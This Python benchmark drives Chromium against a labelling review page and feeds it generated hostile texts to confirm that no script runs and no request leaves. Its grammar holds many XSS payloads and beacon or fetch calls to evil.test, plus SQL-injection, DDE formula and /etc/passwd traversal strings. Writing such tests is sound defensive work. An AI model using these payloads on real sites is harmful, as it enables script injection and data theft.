"""Hostile texts on the review page: no script of theirs runs, and nothing asks for anything outside.

    python tests/benchmarks/hostile_page.py --texts 100000
    python tests/benchmarks/hostile_page.py --texts 2000 --settings normal nothing

Texts from a grammar (script tags, event handlers, frames, svg, mathml, style sheets, refreshes, preloads,
fonts, templates, bidi marks, prototype and clobbering names, JSON and markup breakers, ...) stand in every
place of the page: the text, its flags and its reason, names, descriptions and examples of labels, the
machine's guess, guidelines, demonstrations, persons, the run, comments, disputes, warnings, errors. A server
of this script speaks the page's protocol with them, and the page's own script shows them in a real chromium,
answered by key. Each text has a number, which is what it would tell, and counts once the page was asked to
show it.

Settings:
  normal      as served
  no policy   without the Content-Security-Policy
  no escape   every `textContent =`, `append` and text node of the page's script made markup: the policy alone
  no types    the same, and the policy without its `require-trusted-types-for`: as in a browser that lacks it
  nothing     neither: the power of the test; the share of the texts that could run and did, by kind

Counted: scripts run (a function on the window, dialogs), requests that left (a trap that every foreign name
resolves to, and the browser's own list), elements on the page that are not its own, errors, and texts not
shown as they are.

Needs playwright and chromium (`LLMAL_CHROMIUM` names another).

Measured 2026-11-22 with chromium 156 on two busy cores (load 9 to 16). `put` counts what
the page's script put on the page, `blocked` what the policy kept from becoming markup, `shown` the texts of
items compared with what was sent.

setting       texts  scripts  outside elements   errors    wrong    shown      put  blocked  seconds
normal       100059        0        0        0        0        0     1680   101843        0      126
no policy    104929        0        0        0        0        0     1920   107069        0      179
no escape    105676        0        0        0        0        0     1920   107012    77179      204
no types       4039        0       14        0        0        0      405     8019        0      161
nothing        4039     4032     2591        0      489        0      405     8019        0      172
                of 4,005 texts that could run or ask, 99.6 % did

Without types, what leaves is a refresh of the whole page, against which a policy has no word: there the
escaping is the only wall.
"""

from __future__ import annotations

import argparse
import base64
import html
import json
import os
import random
import re
import shutil
import socketserver
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, NamedTuple

from llmal.desk.app import FILES, HERE, POLICY, DeskGuard

CHROMIUM = os.environ.get("LLMAL_CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
EVIL = "evil.test"
SETTINGS = ("normal", "no policy", "no escape", "no types", "nothing")
GUARDED = SETTINGS[:3]


# --- the grammar ------------------------------------------------------------------------------------------


class Text(NamedTuple):
    """One hostile text: its kind, and whether as markup it runs (`script`), asks (`request`) or neither."""

    number: int
    kind: str
    does: str
    words: str


def payload(rng: random.Random, n: int, whose: str = "") -> str:
    """JavaScript that tells its number, without double quotes and angle brackets."""
    hit = whose + "hit"
    return rng.choice([
        f"{hit}({n})", f"{whose or 'window.'}hit({n})", f"({hit})({n})", f"{hit}`{n}`",
        f"{whose or 'top.'}hit({n})", f"Function('{hit}({n})')()", f"eval('{hit}({n})')",
        f"setTimeout('{hit}({n})')", f"setTimeout({hit},0,{n})", f"self['ev'+'al']('{hit}({n})')",
        f"Promise.resolve({n}).then({hit})", f"[{n}].forEach({hit})", f"var a={n};{hit}(a)",
        f"fetch('http://{EVIL}/{n}');{hit}({n})", f"new Image().src='//{EVIL}/{n}'",
        f"navigator.sendBeacon('http://{EVIL}/{n}')", f"alert({n})", f"import('http://{EVIL}/{n}')",
        f"throw {hit}({n})", f"location='javascript:{hit}({n})'",
    ])  # fmt: skip


def quoted(rng: random.Random, code: str) -> str:
    """An attribute's value: escaped in one of the ways that a parser undoes."""
    how = rng.random()
    if how < 0.2:
        return '"' + "".join(f"&#{ord(c)};" for c in code) + '"'
    if how < 0.3:
        return "'" + "".join(f"&#x{ord(c):x};" if rng.random() < 0.3 else html.escape(c) for c in code) + "'"
    if how < 0.5 and not re.search(r"[\s\"'`=<>]", code):
        return code
    return '"' + html.escape(code) + '"'


HANDLERS = (
    "<img src=x onerror={q}>", "<img src=data: onerror={q}>", "<img/src/onerror={q} >",
    "<image src=x onerror={q}>",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAAC onload={q} onerror={q}>",
    "<svg><svg onload={q}></svg></svg>", "<svg><image href=x onerror={q} /></svg>",
    "<details open ontoggle={q}>x</details>", "<video><source onerror={q}></video>",
    "<audio src=x onerror={q}></audio>", "<video src=x onerror={q}></video>", "<style onload={q}></style>",
    "<style onload={q}>p{{}}</style>", "<link rel=stylesheet href=x onerror={q}>",
    "<iframe onload={q}></iframe>", "<iframe src=about:blank onload={q}></iframe>",
    "<object data=x onerror={q}></object>", "<math><mtext><img src=x onerror={q}></mtext></math>",
    "<math><mi><img src=x onerror={q}></mi></math>",
    "<svg><foreignObject><img src=x onerror={q}></foreignObject></svg>",
    "<svg><desc><img src=x onerror={q}></desc></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror={h}>\">", "</textarea><img src=x onerror={q}>",
    "</title><img src=x onerror={q}>", "--><img src=x onerror={q}>", "]]><img src=x onerror={q}>",
    "<!--><img src=x onerror={q}>-->", "<![CDATA[><img src=x onerror={q}>]]>",
    "<?xml version=1?><img src=x onerror={q}>", "<!doctype html><img src=x onerror={q}>",
    "<x><img src=x onerror={q}></x>", "<form><button><img src=x onerror={q}></form>",
    "<table><td><img src=x onerror={q}></table>", "<table><img src=x onerror={q}></table>",
    "<select><option></select><img src=x onerror={q}>", "<a href=x><img src=x onerror={q}></a>",
    "\"><img src=x onerror={q}>", "'><img src=x onerror={q}>", "`><img src=x onerror={q}>",
    "</script><img src=x onerror={q}>", "</style><img src=x onerror={q}>",
    "<img\nsrc=x\tonerror\x0c=\n{q}>", "<IMG SRC=x ONERROR={q}>",
    "<img src=x a=`b` onerror={q} title='x>y'>", "<img src='x'onerror={q}>",
    "<style>@keyframes k{{}}</style><p style=animation:k onanimationstart={q}>x</p>",
    "<input type=image src=x onerror={q}>", "<script src=/nowhere onerror={q}></script>",
    "<video><track default src=x></video><img src=x onerror={q}>",
    "<template></template><img src=x onerror={q}>", "<dialog open><img src=x onerror={q}></dialog>",
    "<noscript><p title=\"</noscript><img src=x onerror={h}>\">",
    "<custom-element onclick=1><img src=x onerror={q}></custom-element>",
    "<bdo dir=rtl><img src=x onerror={q}></bdo>",
)  # fmt: skip
"""Elements whose handlers a browser calls by itself; {q} an attribute's value, {h} one inside another."""

SCRIPTS = (
    "<script>{j}</script>", "<script type=text/javascript>{j}</script>", "<script type=module>{j}</script>",
    "<SCRIPT>{j}</SCRIPT >", "<script\n>{j}</script\t>", "<script/x>{j}</script>",
    "<script src=data:text/javascript,{u}></script>", "<script>//<!--\n{j}\n//--></script>",
    "<b><script>{j}</script></b>", "</script><script>{j}</script>",
    "<script src=data:text/javascript;base64,{b}></script>", "<script>window.hacked=1;{j}</script>",
)  # fmt: skip

FRAMES = (
    "<iframe srcdoc={d}></iframe>", "<iframe src={s}></iframe>",
    "<iframe sandbox='allow-scripts allow-same-origin' srcdoc={d}></iframe>",
    "<iframe src=data:text/html,{m}></iframe>", "<object data=data:text/html,{m}></object>",
    "<embed src=data:text/html,{m}>", "<iframe src=data:text/html;base64,{k}></iframe>",
    "<svg><foreignObject><iframe srcdoc={d}></iframe></foreignObject></svg>",
)  # fmt: skip

REQUESTS = (
    "<img src={a}>", "<img srcset={a}>", "<picture><source srcset={a}><img></picture>",
    "<input type=image src={a}>", "<video poster={a}></video>", "<video src={a} preload=auto></video>",
    "<audio src={a} preload=auto></audio>", "<video><source src={a}></video>",
    "<link rel=stylesheet href={a}>", "<link rel=preload as=image href={a}>",
    "<link rel=prefetch href={a}>", "<style>@import url({a});</style>", "<style>@import {o};</style>",
    "<p style='background:url({a})'>x</p>", "<p style='list-style-image:url({a});display:list-item'>x</p>",
    "<p style='border:9px solid;border-image-source:url({a})'>x</p>", "<p style='content:url({a})'>x</p>",
    "<p style='background:image-set(url({a}) 1x)'>x</p>", "<p style='mask-image:url({a})'>x</p>",
    "<style>@font-face{{font-family:f{n};src:url({a})}}</style><p style='font-family:f{n}'>x</p>",
    "<style>#p{n}::before{{content:url({a})}}</style><p id=p{n}>x</p>",
    "<svg><image href={a} width=9 height=9 /></svg>",
    "<svg><image xlink:href={a} width=9 height=9 /></svg>", "<table background={a}><td>x</table>",
    "<iframe src={a}></iframe>", "<object data={a}></object>", "<embed src={a}>",
    "<script src={a}></script>", "<img src=x: srcset='{a} 9w' sizes=9px>",
    "<link rel=modulepreload href={a}>", "<image src={a}>",
    "<video><track kind=metadata default src={a}></video><img src={a}>",
    "<svg><filter id=f{n}><feImage href={a} /></filter><rect width=9 height=9 filter=url(#f{n}) /></svg>",
    "<math><mtext><img src={a}></mtext></math>", "<div style='--x:url({a});background:var(--x)'>x</div>",
)  # fmt: skip

LEAVES = ("<meta http-equiv=refresh content='0;url=http:{a}'>", '<META HTTP-EQUIV="refresh" content={q}>')
"""What takes the whole page elsewhere; a page follows one of them, and no policy has a word against them."""

STILL = (
    "<a href={s}>click</a>", "<a href={a} ping={a}>click</a>",
    "<form action={s}><button>go</button></form>", "<a href={a} target=_blank>x</a>",
    "<button formaction={s} form=f>go</button>", "<p onclick={q}>x</p>",
    "<p onmouseover={q} style=position:fixed;inset:0>x</p>", "<isindex action={s} type=submit>",
    "<math><a xlink:href={s}>x</a></math>",
    "<svg><a><set attributeName=href to={s} /><text>x</text></a></svg>", "<link rel=dns-prefetch href={a}>",
    "<link rel=preconnect href={a}>", "javascript:{j}", "JaVaScRiPt:{j}", "java\tscript:{j}",
    "\x01javascript:{j}", "vbscript:msgbox({n})", "data:text/html,<script>{j}</script>",
    "feed:javascript:{j}", "view-source:{a}", "{{{{constructor.constructor('{c}')()}}}}", "${{{c}}}",
    "#{{{c}}}", "<%= {c} %>", "{{% for x in y %}}{c}{{% endfor %}}", "[[${{{c}}}]]",
    "{{{{7*7}}}}{{{{''.__class__.__mro__}}}}", "@{{{c}}}", "*{{{c}}}", "{{{{#with s as |x|}}}}{c}",
    "$({c})", "`{c}`", "';{c};//", "\";{c};//", "\\\";{c};//", "*/{c}/*", "-->{c}<!--", "\u2028{c}\u2029",
    "\"}}]}};{c};//", "\\u003cimg src=x onerror={c}\\u003e", "\\x3cscript\\x3e{c}\\x3c/script\\x3e",
    "\uff1cscript\uff1e{c}\uff1c/script\uff1e", "\u2039img src=x onerror={c}\u203a",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-", "%3Cscript%3E{c}%3C/script%3E",
    "&lt;script&gt;{c}&lt;/script&gt;", "&#60;img src=x onerror={c}&#62;",
    "&amp;lt;img src=x onerror={c}&amp;gt;", "\u202e{c}\u202c txt.exe", "\u2066<b>{c}\u2069\u200f",
    "a\u200bb\u200c\u200d\ufeff{n}", "Z\u0351\u0321\u0352\u0327{n}", "\U000e0041\U000e0042{n}",
    "\x1b[2J\x1b]0;{n}\x07", "\x00<b>\x00{n}", "\x0b\x0c\x1c\x85{n}", "=cmd|'/c calc'!A{n}", "@SUM({n})",
    "-{n}+{n}", "[x]({s})", "![x]({a})", "<http:{a}>", "[[{n}]]", "$\\input{{/etc/passwd}}{n}$",
    "' OR {n}={n} --", "; DROP TABLE answer; -- {n}", "../../../../etc/passwd#{n}",
    "file:///etc/passwd?{n}", "\\\\{n}.evil.test\\x", "%00{n}", "%n%s%x{n}",
    "<template><img src=x onerror={q}></template>", "<noscript><img src=x onerror={q}></noscript>",
    "<textarea><img src=x onerror={q}></textarea>", "<xmp><img src=x onerror={q}></xmp>",
    "<title><img src=x onerror={q}></title>", "<!--<img src=x onerror={q}>-->",
    "<style><img src=x onerror={q}></style>", "<p title='<img src=x onerror={h}>'>x</p>",
    "<img src=x onerror", "<svg onload", "<script", "</script>{n}", "<", "&", "<>{n}", "</>{n}", "<!{n}",
    "<?{n}", "<svg onload={q}></svg>", "<svg/onload={q} />", "<svg><style onload={q}></style></svg>",
    "<marquee onstart={q}>x</marquee>", "<svg><script>{j}</script></svg>", "<scr<script>ipt>{j}</script>",
    "<svg><script href={a} /></svg>", "<svg><script href=data:text/javascript,{u} /></svg>",
    "<keygen autofocus onfocus={q}>", "<input autofocus onfocus={q}>", "<body onload={q}>",
    "<html onload={q}>", "<frameset onload={q}>", "<frame src={a}>", "<isindex onfocus={q}>",
    "<plaintext/{n}", "<portal src={a}>", "<fencedframe src={a}>", "<link rel=manifest href={a}>",
    "<object><param name=src value={a}></object>",
    "<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"http:{a}\"]}}]}}</script>",
    "<script type=importmap>{{\"imports\":{{\"x\":\"{a}\"}}}}</script>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<meta name=referrer content=unsafe-url>", "<meta http-equiv=set-cookie content=a={n}>",
    "<base href=//evil.test/{n}/>", "<base target=_blank>",
    "trustedTypes.createPolicy('default',{{createHTML:x=>x}});{j}", "<b is=x-{n}>", "<slot name={n}>",
)  # fmt: skip
"""What no markup makes run by itself, or not through a page's script: it has to be shown as it is."""

NAMES = (
    "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__",
    "__lookupSetter__", "then", "toJSON", "length", "name", "null", "undefined", "NaN", "true", "0", "-1",
    "[object Object]", "watch", "eval", "arguments", "then()", "innerHTML", "outerHTML",
)  # fmt: skip
"""Names that a script's tables and objects have meanings for; as labels, too."""

CLOBBERS = (
    "<form id={i}><input name={p}></form>", "<img name={p} id={i}>",
    "<a id={i} href={a}></a><a id={i} name={p}></a>", "<iframe name={p}></iframe>",
    "<object id={i} name={p}></object>", "<embed name={p}>", "<form name={p}><input id={i}></form>",
    "<input id={i} name=attributes>", "<p id={i} class=label data-column=0>",
)  # fmt: skip
"""Elements with names that the page's script asks for: markup of them breaks a page, and runs nothing."""

IDS = ("text", "labels", "note", "search", "status", "why", "S", "work", "send", "trouble", "meanings")
PROPERTIES = (
    "getElementById",
    "textContent",
    "body",
    "cookie",
    "location",
    "hit",
    "S",
    "fetch",
    "JSON",
    "crypto",
    "createElement",
    "children",
)


class Grammar:
    """Hostile texts without end, each with a number of its own; a seed gives the same again."""

    def __init__(self, seed: int = 1, still: bool = True, leaves: bool = True) -> None:
        self.rng, self.number, self.still, self.leaves = random.Random(seed), 0, still, leaves
        self.made: dict[int, Text] = {}

    def text(self) -> Text:
        """The next text."""
        self.number += 1
        n, rng = self.number, self.rng
        kinds = [("handler", HANDLERS), ("script", SCRIPTS), ("frame", FRAMES), ("request", REQUESTS)]
        kinds.append(("leaves", LEAVES))
        rest = [("still", STILL), ("name", NAMES), ("clobber", CLOBBERS)] if self.still else []
        weights = [60, 20, 10, 40, int(self.leaves), *([60, 10, 10] if rest else [])]
        kind, forms = rng.choices([*kinds, *rest], weights)[0]
        at = rng.randrange(len(forms))
        words = forms[at] if kind == "name" else self._filled(forms[at], n)
        does = {"handler": "script", "script": "script", "frame": "script", "request": "request"}.get(
            kind, ""
        )
        made = Text(n, f"{kind} {at}" if does else kind, does, self._around(words, kind))
        self.made[n] = made
        return made

    def _filled(self, form: str, n: int) -> str:
        rng = self.rng
        code, deep = payload(rng, n), payload(rng, n, "parent.")
        page = f"<script>{rng.choice([f'top.postMessage({n},`*`)', f'parent.postMessage({n},`*`)'])}</script>"
        u = "".join(f"%{b:02x}" for b in code.encode())
        return form.format(
            n=n, j=code, c=code, u=u, b=base64.b64encode(code.encode()).decode(),
            q=quoted(rng, code), h=html.escape(f"hit({n})"), a=f"//{EVIL}/{n}", o=f"'//{EVIL}/{n}'",
            s=quoted(rng, f"javascript:{deep}"), d=f'"{html.escape(f"<script>{deep}</script>")}"',
            m="".join(f"%{b:02x}" for b in page.encode()), k=base64.b64encode(page.encode()).decode(),
            i=rng.choice(IDS), p=rng.choice(PROPERTIES),
        )  # fmt: skip

    def _around(self, words: str, kind: str) -> str:
        rng = self.rng
        if kind == "name" or rng.random() < 0.4:
            return words
        before = rng.choice(
            [
                "Please help. ",
                "x ",
                '"> ',
                "'> ",
                "--> ",
                "]]> ",
                "<b>hm</b> ",
                "\u202e",
                "\u200f ",
                "1 < 2 & ",
                "\n\n",
                "<p>",
            ]
        )
        after = rng.choice(["", " thanks", " </p>", " \u202c", ' "', " -->", "\n", " &amp;", " </b></i>"])
        return before + words + after


# --- the world outside, and the page's server -------------------------------------------------------------


class Trap(socketserver.ThreadingTCPServer):
    """Where every foreign name leads: counts who comes, and answers with nothing."""

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self) -> None:
        self.heard: list[str] = []
        super().__init__(("127.0.0.1", 0), self._Visit)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    class _Visit(socketserver.StreamRequestHandler):
        timeout = 5

        def handle(self) -> None:
            try:
                line = self.rfile.readline(4096).decode("latin-1")
                self.server.heard.append(line.strip())  # type: ignore[attr-defined]
                while self.rfile.readline(65536) not in (b"\r\n", b""):
                    pass
                self.wfile.write(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n"
                                 b"Access-Control-Allow-Origin: *\r\nContent-Length: 0\r\n\r\n")  # fmt: skip
            except OSError:
                pass  # whoever came has hung up


@dataclass
class Book:
    """What one load of the page is given to show, and what it says back."""

    grammar: Grammar
    items: int
    per_item: int
    labels: int
    made: dict[int, str] = field(default_factory=dict)
    shown: dict[int, str] = field(default_factory=dict)
    said: list[dict[str, Any]] = field(default_factory=list)
    refused: int = 0

    def __post_init__(self) -> None:
        rng = self.grammar.rng
        self.kind = rng.choice(["single", "multi"])
        self.assisted = rng.random() < 0.5
        self.names: list[str] = []
        while len(self.names) < self.labels:
            if (name := self.put("label name")) not in self.names:
                self.names.append(name)
        self.given = 0

    def put(self, place: str) -> str:
        """A new hostile text for that place."""
        made = self.grammar.text()
        self.made[made.number] = place
        return made.words

    def start(self) -> dict[str, Any]:
        """As `GET /start`."""
        labels = [
            {"name": name, "description": self.put("label meaning"),
             "examples": [self.put("label example"), self.put("label example")]}
            for name in self.names
        ]  # fmt: skip
        shown = [{"text": self.put("demonstration"), "labels": self.names[i : i + 2]} for i in range(3)]
        return {
            "run": self.put("run"), "person": self.put("person"), "several": True, "adjudicates": True,
            "kind": self.kind, "labels": labels, "last": [], "show": "assisted" if self.assisted else "blind",
            "guidelines": "\n".join(self.put("guidelines") for _ in range(4)), "demonstrations": shown,
            **self.now(set()),
        }  # fmt: skip

    def now(self, have: set[int]) -> dict[str, Any]:
        """Progress, and the next items."""
        more = []
        while len(have) + len(more) < 4 and self.given < self.items:
            more.append(self.item())
        left = self.given - len(self.said) - self.refused
        return {
            "done": len(self.said),
            "left": max(0, left),
            "mine": len(self.said),
            "disputes": 3,
            "items": more,
        }

    def item(self) -> dict[str, Any]:
        """The next text to answer."""
        rng, seq = self.grammar.rng, self.given
        self.given += 1
        self.shown[seq] = "\n".join(self.put("text") for _ in range(self.per_item // 3))
        flags = [self.put("flag") for _ in range(self.per_item // 2)]
        return {
            "item": seq, "text": self.shown[seq], "flags": flags, "why": self.put("reason"),
            "candidates": rng.sample(self.names, 3) if rng.random() < 0.3 else [],
            "guess": [rng.choice(self.names)] if self.assisted else None, "confidence": rng.random(),
            "flagged": self.put("flagged") if rng.random() < 0.5 else None,
        }  # fmt: skip

    def say(self, deed: dict[str, Any]) -> tuple[int, dict[str, Any]]:
        """As `POST /say`: now and then with an error in hostile words."""
        if self.grammar.rng.random() < 0.05:
            self.refused += 1
            return 409, {"error": self.put("error")}
        self.said.append(deed)
        more = {"machine": {"labels": [self.names[0]], "confidence": 0.5}} if not self.assisted else {}
        return 200, {**self.now(set(deed["have"])), **more}

    def people(self) -> dict[str, Any]:
        """As `GET /people`."""
        sure = {"value": 0.5, "low": 0.4, "high": 0.6, "n": 30}
        rows = [
            {"name": self.put("person"), "words": 9, "minutes": 3.0, "median_seconds": 2.0, "agreement": sure,
             "warning": self.put("warning")}
            for _ in range(6)
        ]  # fmt: skip
        pairs = [{"a": one["name"], "b": rows[0]["name"], **sure} for one in rows[1:]]
        return {"people": rows, "alpha": sure, "kappa": pairs, "overlap": {"wanted": 9, "done": 3}}

    def disputes(self) -> dict[str, Any]:
        """As `GET /disputes`."""
        items = [
            {"item": 10_000 + i, "text": self.put("disputed text"), "flags": [self.put("flag")],
             "why": self.put("reason"),
             "answers": [{"person": self.put("person"), "labels": [name], "note": self.put("comment")}
                         for name in self.grammar.rng.sample(self.names, 3)]}
            for i in range(3)
        ]  # fmt: skip
        return {"items": items, "left": 3}


class Served(ThreadingHTTPServer):
    """The page's own files, and a book's hostile words where a run's would be."""

    daemon_threads = True

    def __init__(self) -> None:
        self.book: Book | None = None
        self.policy: str | None = POLICY
        self.lock = threading.Lock()
        super().__init__(("127.0.0.1", 0), _Answers)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def handle_error(self, request: Any, client_address: Any) -> None:
        """A page that was left does not wait for its answers."""

    @property
    def address(self) -> str:
        """Of the page."""
        return f"http://127.0.0.1:{self.server_port}"


class _Answers(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: Served

    def log_message(self, format: str, *args: Any) -> None:
        """Say nothing."""

    def _send(self, status: int, kind: str, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        for name, value in DeskGuard.headers:
            key = name.decode()
            if key == "content-type":
                self.send_header(key, kind)
            elif key != "content-security-policy":
                self.send_header(key, value.decode())
            elif self.server.policy:
                self.send_header(key, self.server.policy)
        self.end_headers()
        self.wfile.write(body)

    def _json(self, status: int, data: Any) -> None:
        self._send(status, "application/json", json.dumps(data).encode())

    def do_GET(self) -> None:
        path, book = self.path.partition("?")[0], self.server.book
        if path in FILES:
            name, kind = FILES[path]
            self._send(200, kind, (HERE / name).read_bytes())
            return
        with self.server.lock:
            gives: dict[str, Callable[[], Any]] = (
                {"/start": book.start, "/people": book.people, "/disputes": book.disputes} if book else {}
            )
            found = gives[path]() if path in gives else None
        self._json(200 if found else 404, found or {"error": "no such path"})

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        with self.server.lock:
            if self.path != "/say" or self.server.book is None:
                self._json(404, {"error": "no such path"})
            else:
                self._json(*self.server.book.say(json.loads(body)))


# --- the browser ------------------------------------------------------------------------------------------

CANARY = """(raw) => {
  const C = window.C = { hits: [], put: 0, words: new Set(), blocked: 0, broke: {}, errors: [] };
  const hit = (n) => { C.hits.push(Number(String(n))); };
  window.hit = window.alert = window.confirm = window.prompt = window.print = hit;
  if (window !== top) {
    window.hit = window.alert = (n) => { try { top.hit(n); } catch (e) { top.postMessage(Number(n), "*"); } };
    return;
  }
  addEventListener("message", (event) => { if (Number.isFinite(event.data)) hit(event.data); });
  addEventListener("error", (event) => C.errors.push(String(event.message)), true);
  document.addEventListener("securitypolicyviolation", (event) => {
    C.broke[event.effectiveDirective] = (C.broke[event.effectiveDirective] || 0) + 1;
  });
  const text = Object.getOwnPropertyDescriptor(Node.prototype, "textContent");
  const fragment = Range.prototype.createContextualFragment, range = Document.prototype.createRange;
  const plain = Document.prototype.createTextNode;
  const made = (words) => { // as markup, scripts in it included; as text where the policy forbids that
    C.words.add(words);
    try {
      return fragment.call(range.call(document), words);
    } catch (error) {
      if (!(error instanceof TypeError)) throw error;
      C.blocked += 1;
      return plain.call(document, words);
    }
  };
  const replace = Element.prototype.replaceChildren;
  Object.defineProperty(Node.prototype, "textContent", { configurable: true, get: text.get, set(words) {
    C.put += 1;
    if (raw && this instanceof Element && /[<&]/.test(String(words))) replace.call(this, made(String(words)));
    else { C.words.add(String(words)); text.set.call(this, words); }
  } });
  for (const name of ["append", "prepend", "replaceChildren", "before", "after", "replaceWith"]) {
    const old = Element.prototype[name];
    Element.prototype[name] = function (...all) {
      for (const one of all) if (typeof one === "string") C.words.add(one);
      old.apply(this, all.map((one) => typeof one === "string" && raw ? made(one) : one));
    };
  }
  Document.prototype.createTextNode = (words) => {
    if (raw) return made(String(words));
    C.words.add(String(words));
    return plain.call(document, words);
  };
}"""
"""Put into every frame before anything else: what scripts would call, and, where escaping is off, markup."""

READ = """async ([items, pace]) => { // answers by key, as a person would, and gives what stood on the page
  const text = document.getElementById("text"), note = document.getElementById("note"), seen = [];
  for (const one of document.querySelectorAll("details")) if (pace) one.open = true;
  const down = (key) => new KeyboardEvent("keydown", { key, bubbles: true, cancelable: true });
  const press = (key) => document.body.dispatchEvent(down(key));
  const first = () => document.querySelector("#labels button");
  for (let i = 0; i < items; i++) {
    if (document.getElementById("work").hidden) break;
    seen.push(text.textContent);
    const moved = new Promise((wake) => {
      const watch = new MutationObserver(() => { watch.disconnect(); wake(); });
      watch.observe(text, { childList: true, subtree: true, characterData: true });
      setTimeout(() => { watch.disconnect(); wake(); }, 80);
    });
    if (i % 3 === 0 && note) note.value = text.textContent.slice(0, 300);
    if (i % 4 === 0 && first()) first().click();
    if (i % 4 === 1) press("0");
    if (i % 4 === 1) press("1");
    press("Enter");
    if (i % 4 > 1) press("?.,"[i % 2]);
    await moved;
    if (pace || i % 8 === 7) await new Promise((wake) => setTimeout(wake, pace || 5));
  }
  const rest = () => new Promise((wake) => setTimeout(wake, Math.max(60, pace)));
  press(";"); // people, and how they agree
  await rest();
  press(";");
  press("="); // disputes
  await rest();
  for (let i = 0; i < 3; i++) {
    first().click();
    press("Enter");
    await rest();
  }
  return seen;
}"""

PACE_MS = 250
"""For each text, where markup is let loose: what it brings has to load and run before the next text comes."""

FOREIGN = """() => [...document.querySelectorAll("img, image, iframe, frame, object, embed, svg, math, form, "
  + "base, video, audio, style, marquee, template, meta[http-equiv], [onerror], [onload], "
  + "[srcdoc], a[href^=j], "
  + "link:not([href='/icon.svg'], [href='/page.css']), "
  + "script:not([src='/page.js'])")]
  .filter((one) => !one.matches(".card > svg[aria-hidden]") || one.querySelector(":not(line, rect)"))
  .map((one) => one.outerHTML.slice(0, 200))"""
"""Elements that are not the page's own."""


@dataclass
class Found:
    """What happened in one setting."""

    texts: int = 0
    scripts: int = 0
    outside: int = 0
    elements: int = 0
    errors: list[str] = field(default_factory=list)
    wrong: int = 0
    shown: int = 0
    put: int = 0
    blocked: int = 0
    broke: Counter[str] = field(default_factory=Counter)
    places: Counter[str] = field(default_factory=Counter)
    offered: Counter[str] = field(default_factory=Counter)
    ran: Counter[str] = field(default_factory=Counter)
    could: Counter[str] = field(default_factory=Counter)
    fired: set[int] = field(default_factory=set)
    seconds: float = 0.0

    @property
    def power(self) -> float:
        """Share of the texts that could run, or ask, and did."""
        return sum(self.ran.values()) / max(1, sum(self.could.values()))


def policy_of(setting: str) -> str | None:
    """The header as it is served in that setting."""
    if setting in ("no policy", "nothing"):
        return None
    return POLICY if setting != "no types" else re.sub(r";? *require-trusted-types-for 'script'", "", POLICY)


@contextmanager
def chromium(playwright: Any, trap: Trap) -> Iterator[Any]:
    """A browser for which every name but 127.0.0.1 leads to the trap."""
    quiet = ("--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
             "--disable-component-update", "--disable-sync",
             "--disable-features=HttpsUpgrades,LocalNetworkAccessChecks",
             f"--host-resolver-rules=MAP *.test 127.0.0.1:{trap.server_address[1]}, MAP * ~NOTFOUND, "
             "EXCLUDE 127.0.0.1, EXCLUDE localhost")  # fmt: skip
    browser = playwright.chromium.launch(executable_path=CHROMIUM, args=list(quiet))
    try:
        yield browser
    finally:
        browser.close()


def tried(
    browser: Any, trap: Trap, setting: str, texts: int, seed: int = 1, *, items: int = 40, each: int = 24
) -> Found:
    """That many hostile texts in that setting; a load of the page shows so many items with `each` texts."""
    found, server, started = Found(), Served(), time.perf_counter()
    server.policy = policy_of(setting)
    raw = setting not in ("normal", "no policy")
    grammar = Grammar(seed, still=setting in GUARDED)
    context = browser.new_context()
    context.add_init_script(f"({CANARY})({json.dumps(raw)})")
    try:
        while found.texts < texts:
            book = Book(grammar, items=items, per_item=each, labels=min(30, max(5, texts // 100)))
            server.book = book
            _read(context, server, trap, setting, book, found)
    finally:
        context.close()
        server.shutdown()
        server.server_close()
    for line in trap.heard:  # what was still on its way when a page was left
        found.fired |= {int(n) for n in re.findall(r"\s/(\d+)", line)}
    could = {n: one.kind for n, one in grammar.made.items() if one.does}
    found.could = Counter(could.values())
    found.ran = Counter(could[n] for n in found.fired & could.keys())
    found.seconds = time.perf_counter() - started
    return found


def _read(context: Any, server: Served, trap: Trap, setting: str, book: Book, found: Found) -> None:
    """One load of the page, all its items answered."""
    page = context.new_page()
    heard: list[str] = []
    outside: list[str] = []
    page.on("dialog", lambda d: (heard.append(f"{d.type} dialog {d.message}"), d.accept()))
    own = (server.address, "data:", "about:", "blob:")
    page.on("request", lambda r: None if r.url.startswith(own) else outside.append(r.url))
    page.on(
        "requestfailed", lambda r: outside.remove(r.url) if r.failure == "csp" and r.url in outside else None
    )
    if setting in ("normal", "no policy"):
        page.on("console", lambda m: "409" in m.text or heard.append(f"console {m.text}"))
    page.on("pageerror", lambda e: heard.append(f"error {e}"))
    before = len(trap.heard)
    page.goto(f"{server.address}/#token=t", wait_until="domcontentloaded")
    page.wait_for_selector("#work:not([hidden])", timeout=30_000)
    seen = page.evaluate(READ, [book.items + 20, 0 if setting in GUARDED else PACE_MS])
    page.wait_for_timeout(150 if setting in GUARDED else 1500)
    told = page.evaluate(
        "() => ({ ...C, words: [...C.words].join('\\n'), own: Object.keys(Object.prototype).length })"
    )
    foreign = page.evaluate(FOREIGN) if setting in GUARDED else []
    page.close()
    came = trap.heard[before:]
    numbers = {int(n) for n in told["hits"] if n}
    numbers |= {
        int(m[1]) for one in [*came, *outside] if (m := re.search(r"[/ ](\d+)", one.replace(EVIL, "")))
    }
    found.scripts += len(told["hits"]) + sum(
        " dialog " in h and not h.startswith("beforeunload") for h in heard
    )
    found.outside += max(len(came), len(outside))
    found.elements += len(foreign)
    found.errors += [h for h in heard if " dialog " not in h] + ["prototype"] * told["own"]
